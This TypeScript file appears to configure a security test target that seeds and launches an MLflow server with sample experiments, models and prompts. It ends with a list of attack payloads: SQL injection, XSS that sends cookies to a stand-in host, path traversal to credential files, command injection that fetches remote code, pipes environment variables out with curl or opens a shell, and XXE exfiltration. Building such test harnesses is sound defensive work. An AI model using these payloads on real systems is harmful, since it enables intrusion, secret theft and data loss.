import type { Application } from "../application.ts";

const fill = `
import mlflow, random
from mlflow.tracking import MlflowClient
random.seed(11)
client = MlflowClient("sqlite:///mlflow.db", "sqlite:///mlflow.db")
for name in ["churn-xgboost", "crop-yield", "speech/wav2vec"]:
    experiment = client.create_experiment(name, tags={"mlflow.note.content": f"Baseline for **{name}**; see the wiki."})
    for i in range(9):
        run = client.create_run(experiment, run_name=f"{name.split('/')[-1]}-{i:02d}", tags={"owner": ["kim", "d'arcy", "søren"][i % 3], "stage": "tuning"}).info.run_id
        for key, value in {"lr": 10 ** -(i % 4 + 1), "max_depth": i + 2, "loss_fn": "log(cosh)"}.items(): client.log_param(run, key, value)
        for step in range(6): client.log_metric(run, "val_loss", 1 / (step + 1) + random.random() / 9, step=step)
        client.log_metric(run, "auc", 0.7 + random.random() / 4)
        client.set_terminated(run)
    model = name.split("/")[-1] + "-model"
    client.create_registered_model(model, description="Nightly candidate", tags={"team": "risk"})
    client.create_model_version(model, f"runs:/{run}/model", run_id=run, description="Trained on 2026-02 data")
client.register_prompt("summarise-ticket", "Summarise this ticket for {{ audience }}: {{ text }}", commit_message="first")
client.register_prompt("triage", "Is this urgent? Answer yes or no. {{ text }}", commit_message="first")
`;

/** MLflow, which keeps what experiments in machine learning brought; its visitors filter runs, compare them, tag and describe models, and write prompts. */
export const mlflow: Application = {
  name: "mlflow",
  // Not version 3: it has an assistant that starts programs of this machine with what visitors write.
  packages: { pip: ["mlflow==2.22.5", "sqlalchemy==2.0.43"] },
  files: () => ({ "fill.py": fill }),
  prepare: () => [["python3", "fill.py"]],
  start: ({ port }) => [
    "mlflow",
    "server",
    "--backend-store-uri",
    "sqlite:///mlflow.db",
    "--host",
    "127.0.0.1",
    "--port",
    String(port),
    "--workers",
    "1",
  ],
  env: { GIT_PYTHON_REFRESH: "quiet" },
  ready: "/health",
  pages: [
    "/#/experiments/1",
    "/#/experiments/2",
    "/#/experiments/3?searchFilter=metrics.auc%20%3E%200.8",
    "/#/experiments/1?compareRunsMode=CHART",
    "/#/models",
    "/#/models/churn-xgboost-model",
    "/#/models/wav2vec-model",
    "/#/models/crop-yield-model/versions/1",
    "/#/prompts",
    "/#/prompts/triage",
    "/#/prompts/summarise-ticket",
  ],
  avoid: /delete|docs|github|assistant|feedback|learn more|gateway/i,
  texts: {
    searches: [
      "metrics.auc > 0.85",
      'metrics.val_loss < 0.2 and params.max_depth = "6"',
      "params.loss_fn = 'log(cosh)'",
      'tags.owner = "d\'arcy"',
      "attributes.run_name LIKE '%wav2vec%'",
      "tags.stage != 'tuning'",
      "attributes.status = 'FINISHED' AND metrics.`f1 score` >= 0.7",
      "params.lr IN ('0.1', '0.01')",
      "attributes.start_time > 1767225600000",
      "tags.`mlflow.user` ILIKE 'KIM%'",
      "metrics.auc > 0.7 AND metrics.auc < 0.9",
      "churn",
      "crop-yield",
      "name ILIKE '%yield%'",
      "speech/wav2vec",
      "tags.team = 'risk'",
      "val_loss",
      "triage",
      "best run (final)",
      "dataset.digest = '8f3c'",
      "kündigung",
      "音声認識",
      "lr=1e-4; wd=0.01",
      "søren's sweep",
      "^val_.*$",
      "auc|f1",
    ],
    lines: [
      "churn-xgboost-retrain-2026-03",
      "owner",
      "data_version",
      "reviewed-by",
      "churn.v3/eu",
      "d'arcy",
      "validated_by = søren & kim",
      "lr=3e-4, wd=0.01 (cosine)",
      "F1 ≥ 0.82",
      "champion",
      "stage: canary; 5%",
      "s3://models/churn/2026-03/artifacts",
      "runs:/0a1b2c3d/model",
      "git@git.example:ml/churn.git#main",
      "Größe=12 GB",
      "gpu:a100x4",
      "won't converge",
      "baseline <- majority class",
      '"gold" labels, v2',
      "数据集 v3",
      '{"seed": 42, "folds": [1,2,3]}',
      "drop_last=True",
      "select-k-best",
      "union-of-experts",
      "ŷ − y",
      "loss = -log p(y|x)",
      "https://example.org/wiki/Churn?rev=12#results",
      "Эксперимент №7",
      "📈 promoted",
      "eval(holdout)",
    ],
    long: [
      "Baseline with *no* feature selection.\n\n- AUC 0.83 ± 0.02 (5 folds)\n- `max_depth=6`, `eta=0.1`\n\nDoesn't beat last month's model; keep for comparison.",
      'You are a support agent. Summarise the ticket for {{ audience }} in at most 3 sentences.\n\nTicket:\n"""\n{{ text }}\n"""\n\nDon\'t invent order numbers; if unsure, say \'unknown\'.',
      'Is the following message urgent? Answer with a JSON object: {"urgent": true|false, "why": "..."}\n\n{{ message }}',
      'Translate into {{ language }}, keep the HTML tags (<b>, <a href="...">) and placeholders like %s or {0} as they are:\n\n{{ source }}',
      "Write a SQL query for the schema below. Only SELECT is allowed, never DROP, DELETE or UPDATE; use single quotes ('like this') for strings.\n\n{{ schema }}\n\nQuestion: {{ question }}",
      "## Training data\n```sql\nSELECT customer_id, COUNT(*) AS calls, MAX(ts) AS last_call\nFROM calls WHERE ts >= DATE '2025-10-01'\nGROUP BY 1 HAVING COUNT(*) > 2;\n```\nRows: 1 204 331; positive: 8.4%",
      "Reproduce:\n```sh\ngit checkout 8f3c1d2 && pip install -r requirements.txt\npython train.py --lr 3e-4 --epochs 20 | tee logs/run.txt\n```",
      'mlflow.set_experiment("crop-yield")\nwith mlflow.start_run(run_name="ridge-α=0.5"):\n    mlflow.log_params({"alpha": 0.5, "normalize": True})\n    mlflow.sklearn.log_model(model, name="model")',
      "Achtung: Labels vor dem 1.3. sind falsch (siehe Ticket #812)! Läufe 03–05 daher nicht vergleichen; »auc« ist dort zu hoch.",
      "| model | AUC | p95 latency |\n|---|---|---|\n| xgb | 0.861 | 12 ms |\n| mlp | 0.855 | 31 ms |\n\n> xgb wins; mlp isn't worth 2.5x the latency.",
      "Loss: $L = -\\frac{1}{n}\\sum_i y_i \\log \\hat y_i + \\lambda\\lVert w \\rVert_2^2$ with λ = 1e-3; ∂L/∂w clipped to [-1, 1].",
      "季節ごとに分割して評価した。春は精度が低い（0.71）、理由はデータ不足。次回：拡張を試す。",
      '{"optimizer": {"name": "adamw", "betas": [0.9, 0.98]}, "scheduler": "cosine", "paths": {"train": "/mnt/data/train/*.parquet", "val": "../val"}}',
      "Promoted to canary after sign-off by Kim O'Neill (risk) — see https://example.org/reviews/77?tab=diff&w=1. Roll back if error rate > 1% for 10 min; then ping on-call.",
      "{% if history %}Conversation so far:\n{% for turn in history %}{{ turn.role }}: {{ turn.content }}\n{% endfor %}{% endif %}\nUser: {{ question }}",
      "Modèle de rendement : l'erreur (RMSE) est de 0,42 t/ha ; « blé » et « orge » séparés. À refaire quand les données d'août arriveront.",
      "Known issues:\n1. NaN in `val_loss` when batch < 8 & fp16\n2. tokenizer drops emoji (😀 -> <unk>)\n3. os.environ['CUDA_VISIBLE_DEVICES'] isn't logged",
    ],
  },
  attacks: [
    {
      class: "sql_injection",
      payload: "metrics.auc > 0 UNION SELECT key,value,run_uuid,1,1,0 FROM tags WHERE key LIKE 'mlflow.%'--",
    },
    { class: "sql_injection", payload: "tags.owner = 'kim' AND 1=(SELECT 1 FROM PG_SLEEP(9))--" },
    {
      class: "sql_injection",
      payload:
        "params.lr = '0.1') OR EXISTS(SELECT 1 FROM registered_models WHERE UNICODE(SUBSTR(name,1,1))>98) AND ('1'='1",
    },
    {
      class: "sql_injection",
      payload:
        "churn%' ESCAPE '!' AND 7734=CAST((CHR(113)||(SELECT COALESCE(CAST(artifact_uri AS CHARACTER(10000)),(CHR(32))) FROM runs LIMIT 1)::text||CHR(113)) AS NUMERIC) AND '%'='",
    },
    {
      class: "sql_injection",
      payload: "name ILIKE '%x'; UPDATE model_versions SET current_stage='Production' WHERE 1=1; --",
    },
    {
      class: "sql_injection",
      payload: "val_loss') PROCEDURE ANALYSE(EXTRACTVALUE(4021,CONCAT(0x5c,BENCHMARK(7000000,MD5(0x6d6c)))),1)#",
    },
    {
      class: "xss",
      payload:
        "![chart](x\"onerror=\"fetch('//ml.example/'.concat(document.cookie)))<video><source onerror=\"self['al'+'ert'](1)\"></video>",
    },
    {
      class: "xss",
      payload:
        "<style>@keyframes z{}</style><b style=\"animation-name:z\" onanimationend=\"Function('ale'+'rt(document.domain)')()\">AUC 0.99</b>",
    },
    {
      class: "xss",
      payload: "{{constructor.constructor('window.location=\"https://ml.example/\"+localStorage.mlflow')()}}",
    },
    {
      class: "xss",
      payload:
        "\\u003cscript\\u003enavigator.sendBeacon('//ml.example/c',document.cookie)\\u003c/script\\u003e<script src=//ml.example/h.js></script>",
    },
    {
      class: "xss",
      payload:
        "<a href=\"data:text/html,%3Cscript%3Eopener.document.body.innerHTML='pwn'%3C/script%3E\" target=_blank>model card</a><body onpageshow=alert(8)>",
    },
    { class: "path_traversal", payload: "runs:/0a1b2c3d/../../../../../../../../etc/passwd" },
    { class: "path_traversal", payload: "file:///?/../../../../../../../../../root/.kube/config#/../" },
    { class: "path_traversal", payload: "mlflow-artifacts:/%2E%2E%2F%2E%2E%2F%2E%2E%2Fproc%2Fself%2Fstatus" },
    { class: "path_traversal", payload: "models:/churn/1/..;/..;/WEB-INF/../../../../opt/mlflow/basic_auth.db" },
    {
      class: "command_injection",
      payload:
        "s3://models/$(python3 -c 'import urllib.request as u;exec(u.urlopen(\"http://198.51.100.140/p\").read())')/model.pkl",
    },
    {
      class: "command_injection",
      payload:
        "{{ self._TemplateReference__context.namespace.__init__.__globals__.os.popen('env|curl -d @- 198.51.100.140').read() }}",
    },
    {
      class: "command_injection",
      payload: "!!python/object/apply:os.system [\"perl -MIO::Socket -e 'fork;exec q(sh -i <&3 >&3)'\"]",
    },
    { class: "command_injection", payload: 'conda.yaml"||(sleep$IFS$((6*2)))||"&&IFS=,;c=rm,-rf,/tmp/m;$c' },
    {
      class: "xxe",
      payload:
        '<!DOCTYPE pmml [<!ENTITY % f SYSTEM "file:///opt/ml/.env"><!ENTITY % w "<!ENTITY &#37; s SYSTEM \'ftp://198.51.100.140/%f;\'>">%w;%s;]><PMML version="4.4"/>',
    },
  ],
};
